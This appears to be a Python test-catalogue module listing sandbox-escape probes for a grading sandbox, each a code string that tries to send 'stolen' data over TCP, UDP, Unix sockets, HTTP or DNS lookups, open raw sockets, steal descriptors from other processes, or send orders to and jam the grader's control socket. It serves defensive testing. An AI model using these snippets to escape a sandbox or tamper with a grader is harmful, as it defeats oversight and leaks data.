"""Talking to anyone: the network, sockets of the host, the sandbox's own control socket."""

from .catalogue import Attack, before_blank

TRY = """
import socket, os
def attempt(action, *args):
    try: return action(*args)
    except BaseException: return None
"""

ATTACKS: tuple[Attack, ...] = (
    before_blank(
        "tcp",
        "Connects to a server on this host.",
        TRY + "attempt(lambda: socket.create_connection(('127.0.0.1', $tcp), 1).sendall(b'stolen'))",
    ),
    before_blank(
        "udp",
        "Sends a datagram.",
        TRY
        + "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'stolen', ('127.0.0.1', $udp)))",
    ),
    before_blank(
        "unix-socket",
        "Connects to a socket in the file system.",
        TRY + "s = socket.socket(socket.AF_UNIX)\ns.connect('$unix')\ns.sendall(b'stolen')",
    ),
    before_blank(
        "abstract-socket",
        "Connects to a socket without a file.",
        TRY + "s = socket.socket(socket.AF_UNIX)\ns.connect('\\0$abstract')\ns.sendall(b'stolen')",
    ),
    before_blank(
        "listens",
        "Listens for the next learner.",
        TRY
        + "s = socket.socket(socket.AF_UNIX)\ns.bind('\\0dlteach-attack')\ns.listen()\nt = socket.create_server(('127.0.0.1', 0))",
    ),
    before_blank(
        "urllib",
        "Fetches a page, also through a proxy.",
        TRY + "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:$tcp/stolen', timeout=1)",
    ),
    before_blank(
        "name-lookup",
        "Asks the name server: a name can carry what was found.",
        TRY + "socket.getaddrinfo('stolen.example.invalid', 80)",
    ),
    before_blank(
        "raw-and-packet",
        "Raw, packet, netlink, vsock and Bluetooth sockets.",
        TRY
        + """
for family, kind, protocol in ((2, 3, 255), (17, 3, 768), (16, 3, 0), (40, 1, 0), (31, 3, 0), (38, 5, 0)):
    s = attempt(socket.socket, family, kind, protocol)
    if s is not None and family == 16: s.bind((0, 0))
""",
    ),
    before_blank(
        "socket-by-number",
        "socket and connect by their numbers, also through socketcall's 32-bit door.",
        """
import ctypes, struct
libc = ctypes.CDLL(None)
fd = libc.syscall(41, 2, 1, 0)
address = struct.pack("=H", 2) + struct.pack(">H", $tcp) + bytes([127, 0, 0, 1]) + bytes(8)
libc.syscall(42, fd, address, 16)
libc.syscall(1, fd, b"stolen", 6)
""",
    ),
    before_blank(
        "io-uring",
        "A ring that connects and writes for it.",
        "import ctypes\nlibc = ctypes.CDLL(None)\nring = ctypes.create_string_buffer(120)\nfd = libc.syscall(425, 8, ring)\nif fd >= 0: open('$outside/ring', 'w')",
    ),
    before_blank(
        "control-socket",
        "Sends orders over every socket that was inherited.",
        TRY
        + """
import array
for fd in range(0, 64):
    s = attempt(socket.socket, socket.AF_UNIX, socket.SOCK_STREAM, 0, fd)
    if s is not None:
        for order in (b"F", b"R", b"Q"):
            attempt(lambda: s.send(order, socket.MSG_DONTWAIT))
    for order in (b"F", b"R"): attempt(os.write, fd, order)
""",
    ),
    before_blank(
        "sends-descriptors",
        "Sends its own descriptors to the grader, hundreds of them.",
        TRY
        + """
import array
for fd in range(0, 64):
    s = attempt(socket.socket, socket.AF_UNIX, socket.SOCK_STREAM, 0, fd)
    if s is not None:
        for _ in range(100):
            attempt(lambda: s.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 200))], socket.MSG_DONTWAIT))
""",
    ),
    before_blank(
        "takes-descriptors",
        "Takes descriptors out of the memory of other processes.",
        "import ctypes, os\nlibc = ctypes.CDLL(None)\np = libc.syscall(434, $victim, 0)\nfor fd in range(20):\n    got = libc.syscall(438, p, fd, 0)\n    if got >= 0: open('$outside/took', 'w')",
    ),
    before_blank(
        "shuts-the-channel",
        "Shuts the channel down, sets its timeouts and its buffers.",
        TRY
        + """
for fd in range(0, 64):
    s = attempt(socket.socket, socket.AF_UNIX, socket.SOCK_STREAM, 0, fd)
    if s is not None:
        attempt(s.setsockopt, socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        attempt(s.setblocking, False)
        attempt(s.shutdown, socket.SHUT_RDWR)
""",
    ),
)
